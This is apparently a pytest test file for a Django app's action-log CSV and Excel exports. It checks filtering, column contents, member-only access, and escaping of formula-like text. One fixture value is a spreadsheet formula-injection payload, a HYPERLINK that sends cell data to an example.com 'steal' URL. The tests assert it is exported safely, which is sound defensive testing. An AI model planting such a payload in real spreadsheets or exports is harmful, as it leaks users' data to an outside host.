"""The action log's downloads: exactly the actions the filters choose (every page of them, in the page's
order), the same columns in the CSV file and the Excel workbook, and text that looks like a formula kept
as text in both."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from actions import services
from actions.enums import ActionStatus
from actions.views.log import HEADER
from core.spreadsheets import unescape_cell

pytestmark = pytest.mark.django_db

TODAY = datetime.date.today()
FORMULA = '=HYPERLINK("http://example.com/steal?d="&A1,"Click for the brief")'


@pytest.fixture
def log(cast):
    """32 actions: most the chair's, some the member's, one with a formula for its text, a few completed."""
    for n in range(32):
        owner = cast.member.person if n % 4 == 0 else cast.chair.person
        action = services.action_create(
            user=cast.coordinator,
            board=cast.board,
            text=FORMULA if n == 5 else f"Check the audit of school {n}.",
            owners=[owner],
            due_date=TODAY + datetime.timedelta(days=(n * 7) % 50 - 20) if n % 6 else None,
        )
        if n % 9 == 0:
            done = ActionStatus.COMPLETED
            services.action_post_update(user=cast.coordinator, action=action, status=done, text="Done")
        elif n % 5 == 0:
            services.action_post_update(user=cast.coordinator, action=action, text="+44 1772 rang back")
    return cast


def page_rows(client, board, query: dict) -> list[str]:
    """The references the log shows for ``query``, every page of them, in order."""
    url = reverse("actions:board_action_log", args=[board.slug])
    refs, page = [], 1
    while True:
        response = client.get(url, {**query, "page": page})
        refs += [a.reference for a in response.context["page"].object_list]
        if not response.context["page"].has_next():
            return refs
        page += 1


def csv_rows(client, board, query: dict) -> list[list[str]]:
    response = client.get(reverse("actions:board_action_log_csv", args=[board.slug]), query)
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "private, no-store"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def xlsx_rows(client, board, query: dict) -> list[list]:
    response = client.get(reverse("actions:board_action_log_xlsx", args=[board.slug]), query)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith('attachment; filename="cpb-actions-')
    workbook = openpyxl.load_workbook(io.BytesIO(response.content), data_only=False)
    sheet = workbook["Actions"]
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return [["" if cell.value is None else cell.value for cell in row] for row in sheet.iter_rows()]


QUERIES = [
    {},
    {"closed": "on", "sort": "-due"},
    {"owner": "chair", "sort": "status"},
    {"q": "audit", "overdue": "no", "sort": "owner"},
    {"status": ["completed"]},
]


@pytest.mark.parametrize("query", QUERIES, ids=["open", "all-by-due", "chairs-by-status", "search", "completed"])
def test_the_downloads_hold_exactly_the_filtered_rows_in_order(client, log, query):
    if query.get("owner") == "chair":
        query = {**query, "owner": log.chair.person.pk}
    client.force_login(log.member)
    shown = page_rows(client, log.board, query)
    assert shown  # every case chooses some
    from_csv = csv_rows(client, log.board, query)
    from_xlsx = xlsx_rows(client, log.board, query)
    assert from_csv[0] == HEADER and from_xlsx[0] == HEADER
    assert [row[0] for row in from_csv[1:]] == shown
    # The workbook opens with the same rows as the page and the CSV file.
    assert from_xlsx == from_csv


def test_more_than_a_page_is_downloaded_whole(client, log):
    client.force_login(log.member)
    shown = page_rows(client, log.board, {"closed": "on"})
    assert len(shown) == 32
    assert len(csv_rows(client, log.board, {"closed": "on"})) == 33


def test_text_like_a_formula_stays_text(client, log):
    client.force_login(log.member)
    for rows in (csv_rows(client, log.board, {"q": "HYPERLINK"}), xlsx_rows(client, log.board, {"q": "HYPERLINK"})):
        [row] = rows[1:]
        assert row[1] == "'" + FORMULA and unescape_cell(row[1]) == FORMULA
    rows = csv_rows(client, log.board, {"q": "school 10"})
    assert rows[1][HEADER.index("Latest update")] == "'+44 1772 rang back"


def test_the_columns_say_what_the_page_says(client, log):
    client.force_login(log.member)
    action = log.board.actions.get(number=2)  # the chair's, due in a week's time less 13 days
    services.action_post_update(user=log.chair, action=action, status=ActionStatus.IN_PROGRESS, text="Begun")
    rows = csv_rows(client, log.board, {"q": "A2"})
    row = dict(zip(HEADER, rows[1], strict=True))
    assert row == {
        "Reference": "A2",
        "Action": "Check the audit of school 1.",
        "Owners": log.chair.person.initials,
        "Owner names": log.chair.person.full_name,
        "Raised at the meeting of": "Raised outside a meeting",
        "Minute": "",
        "Due": (TODAY + datetime.timedelta(days=-13)).isoformat(),
        "By the next meeting": "No",
        "Status": "In progress",
        "Reason": "",
        "RAG": "Red",
        "Last updated": TODAY.isoformat(),
        "Latest update": "Begun",
    }


def test_the_downloads_are_for_the_boards_members_only(client, log):
    client.force_login(log.outsider)
    assert client.get(reverse("actions:board_action_log_csv", args=[log.board.slug])).status_code == 403
    assert client.get(reverse("actions:board_action_log_xlsx", args=[log.board.slug])).status_code == 403
